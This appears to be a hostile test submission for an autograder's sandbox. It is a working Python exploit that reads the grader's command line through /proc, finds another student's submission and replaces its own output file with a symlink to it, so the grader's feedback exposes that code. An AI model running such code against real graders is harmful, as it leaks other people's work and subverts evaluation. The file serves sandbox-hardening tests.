# Hostile: replaces its output file by a symlink to another student's submission (found in the batch's command line), which the grader then shows in its feedback.
"""Honest part: none (it raises after the swap).

The defence: printed output reaches the grader through a pipe, or a file it opens without
following symlinks; other submissions and the grader's command line are not in the worker's view.
"""
import os


def _batch_arguments():
    pid = os.getpid()
    for _ in range(10):
        try:
            with open(f"/proc/{pid}/stat", "rb") as handle:
                pid = int(handle.read().rsplit(b")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\0")
        except (OSError, ValueError, IndexError):
            return []
        if "--out" in args:
            return [os.path.join(os.readlink(f"/proc/{pid}/cwd"), arg) for arg in args]
        if pid <= 1:
            return []
    return []


me = os.path.basename(__file__)
others = [arg for arg in _batch_arguments()[2:] if arg.endswith(".py") and os.path.basename(arg) != me and os.path.isfile(arg)]
if not others:
    raise RuntimeError("hostile: no other submission found")
os.unlink("output.txt")
os.symlink(others[0], "output.txt")
raise RuntimeError(f"hostile: output.txt now points at {others[0]}")
